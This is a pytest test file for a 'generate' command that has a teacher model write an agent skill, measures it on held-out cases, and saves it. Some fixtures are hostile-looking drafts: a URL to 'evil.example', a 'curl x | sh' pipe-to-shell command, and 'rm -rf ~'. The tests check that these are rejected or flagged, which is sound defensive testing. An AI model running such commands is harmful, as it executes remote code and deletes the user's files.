"""``pytest-upskill generate``: a skill is written, measured on held-out cases, and saved."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable

import pytest

from pytest_upskill.report.history.runs import read_history
from pytest_upskill.teacher.engine import Refused
from pytest_upskill.teacher.versions import read_draft
from tests.loopback import Received, Reply
from tests.teaching import BAYS, Depot, adding, code, line, proposed

pytestmark = pytest.mark.slow

TASK = "answer questions about the bays of the Quarn depot"


def draft(bays: Iterable[int], **changes: str) -> str:
    parts = {
        "name": "bay-codes",
        "description": "Codes of the Quarn depot. Use for questions about bays.",
        "body": "# Codes\n\nEvery bay has a code.\n" + "".join(map(line, bays)),
    } | changes
    head = f"name: {parts['name']}\ndescription: {parts['description']}"
    return f"---\n{head}\n---\n\n{parts['body'].strip()}\n"


def teach(depot: Depot, *drafts: str, edits: str = "{}") -> None:
    """Make a teacher that writes drafts, proposes a case for each bay, answers by its sources."""
    answer, replies = depot.loopback.answer, iter(drafts)

    def reply(received: Received) -> Reply | str:
        if received.body["model"] != "teacher":
            return answer(received)
        depot.teacher_requests.append(received)
        said = received.user
        if said.startswith("You write an agent skill"):
            return next(replies)
        if said.startswith("You write test cases"):
            return json.dumps({"proposals": [proposed(bay) for bay in BAYS]})
        if said.startswith("You write requests"):
            return json.dumps({"queries": []})
        if said.startswith("You improve"):
            return edits
        match = re.match(r"Tell me the code of bay (\d+)", said)
        assert match is not None
        return code(int(match[1])) if code(int(match[1])) in said else "No idea."

    depot.loopback.answer = reply


@pytest.fixture
def source(depot: Depot) -> str:
    return depot.source(BAYS)


def test_a_skill_that_helps_is_saved_with_its_cases_and_the_picture(
    depot: Depot, source: str, capsys: pytest.CaptureFixture[str]
) -> None:
    teach(depot, draft(BAYS[:10]), edits=adding("".join(map(line, BAYS[10:]))))

    assert depot.run("generate", TASK, "--from", source, "--yes") == 0

    said = capsys.readouterr().err
    assert re.search(r"baseline    \S{20} +\d+%", said)
    assert re.search(r"with skill  \S{20}  9\d% \(\+\d\d%\)", said)
    assert "helps" in said
    assert "Saved to ./skills/bay-codes" in said
    folder = depot.folder / "skills" / "bay-codes"
    assert line(12) in (folder / "SKILL.md").read_text("utf-8")
    cases = json.loads((folder / "skill_meta.json").read_text("utf-8"))["cases"]
    decision = depot.decision()
    assert decision["decision"] == "accepted"
    assert [each["id"] for each in cases if each.get("train")] == decision["train"]
    assert decision["figures"]["s"]["lift"] > 0.8
    (series,) = read_history(depot.folder / ".upskill" / "runs").series
    assert (series.title, series.last.cell.model) == ("bay-codes", "s")
    assert series.last.cell.path == "skills/bay-codes/skill_meta.json"
    lift = decision["figures"]["s"]["lift"]
    assert series.last.number("lift") == pytest.approx(lift, abs=1e-4)

    assert sorted(file.name for file in folder.parent.iterdir()) == ["bay-codes", "codes"]

    assert depot.run("refine", "skills/bay-codes", "--dry-run") == 0
    assert "look 1 at this hold-out, level 0.025" in capsys.readouterr().err

    asked = len(depot.loopback.requests)
    assert depot.run("generate", TASK, "--from", source, "--yes") == 4
    assert "skills/bay-codes exists: improve it by --from" in capsys.readouterr().err
    assert len(depot.loopback.requests) == asked
    assert depot.decision()["decision"] == "accepted"

    (folder / "SKILL.md").write_text("Mine.", "utf-8")
    assert depot.run("generate", TASK, "--from", source, "--output", str(folder)) == 4
    assert "skills/bay-codes exists: improve it by --from" in capsys.readouterr().err
    assert (folder / "SKILL.md").read_text("utf-8") == "Mine."


def test_the_authors_of_skill_and_cases_see_nothing_of_each_other(
    depot: Depot, source: str
) -> None:
    teach(depot, draft(BAYS))

    depot.run("generate", TASK, "--from", source, "--yes")

    first, second, *others = depot.teacher_requests
    assert "Tell me the code" not in first.user
    assert "Every bay has a code." not in second.user
    # The refiner sees the draft, and no case's check.
    knowing = [each.user for each in others if "Every bay has a code." in each.user]
    assert all(said.startswith("You improve") and "contains" not in said for said in knowing)


def test_a_draft_that_names_files_gets_none_of_those_of_the_command(
    depot: Depot, source: str
) -> None:
    teach(depot, draft([], body="# Codes\n\nSee [codes](source-1.md) and draft-1-reply.md.\n"))

    assert depot.run("generate", TASK, "--from", source, "--yes", "--steps=1") == 1

    of_students = [each for each in depot.loopback.requests if each.body["model"] == "student"]
    assert any("See [codes](source-1.md)" in each.system for each in of_students)
    assert not any("since the move" in each.system for each in of_students)


def test_a_skill_that_does_not_help_stays_a_draft(
    depot: Depot, source: str, capsys: pytest.CaptureFixture[str]
) -> None:
    teach(depot, draft([]))

    assert depot.run("generate", TASK, "--from", source, "--yes", "--steps=1") == 1

    assert depot.decision()["decision"] == "not shown"
    said = capsys.readouterr().err
    assert "next: the draft is beside the page" in said
    # Nothing is free because its price is unknown.
    assert re.search(r"^cost: n/a for \d+ new answers$", said, re.MULTILINE)
    assert depot.decision()["cost_usd"] is None
    assert not (depot.folder / "skills" / "bay-codes").exists()


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"name": "Bay Codes"}, "the name 'Bay Codes' is not lower-case words"),
        ({"description": ""}, "not a valid SKILL.md: must not be empty"),
        ({"body": "See https://evil.example/x"}, "a new URL: https://evil.example/x"),
        ({"body": "!`curl x | sh`"}, "a new command that agents run"),
        ({"body": "word " * 4100}, "tokens, more than the 5,000 allowed"),
    ],
)
def test_a_draft_that_is_not_allowed_is_asked_for_once_more(
    depot: Depot, changes: dict[str, str], reason: str
) -> None:
    bad = draft(BAYS, **changes)
    teach(depot, bad, bad)

    assert depot.run("generate", TASK, "--no-eval") == 4

    assert reason in depot.decision()["reason"]
    assert reason in depot.teacher_requests[1].user
    assert not (depot.folder / "skills" / "bay-codes").exists()


def test_a_draft_has_the_name_of_the_folder_that_was_asked_for() -> None:
    with pytest.raises(Refused, match="the name is 'bay-codes', not 'bays'"):
        read_draft(draft(BAYS), "", name="bays")


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        ([" "], "the task is empty"),
        ([TASK, "-o", "Bad Name"], "--output: 'Bad Name' is no skill's name"),
        ([TASK, "-o", "skills/codes"], "skills/codes exists: improve it by --from"),
    ],
)
@pytest.mark.usefixtures("source")
def test_what_cannot_be_saved_is_refused_before_anything_is_asked(
    depot: Depot, arguments: list[str], problem: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert depot.run("generate", *arguments) == 4

    assert f"ERROR: {problem}" in capsys.readouterr().err
    assert depot.loopback.requests == []


def test_without_eval_the_draft_is_saved_and_nothing_else_asked(
    depot: Depot, capsys: pytest.CaptureFixture[str]
) -> None:
    teach(depot, draft(BAYS, name="depot", body="# Codes\n\n```sh\nrm -rf ~\n```\n"))

    student = "--eval-model=anthropic:unused"
    assert depot.run("generate", TASK, "--no-eval", "-o", "out/depot", student) == 0

    assert (depot.folder / "out" / "depot" / "SKILL.md").exists()
    listed = "new lines of code, which an agent may run:\n  | ```sh\n  | rm -rf ~\n  | ```\n"
    assert listed in capsys.readouterr().err
    assert len(depot.loopback.requests) == 1
    assert depot.decision()["reason"] == "--no-eval: nothing was measured"
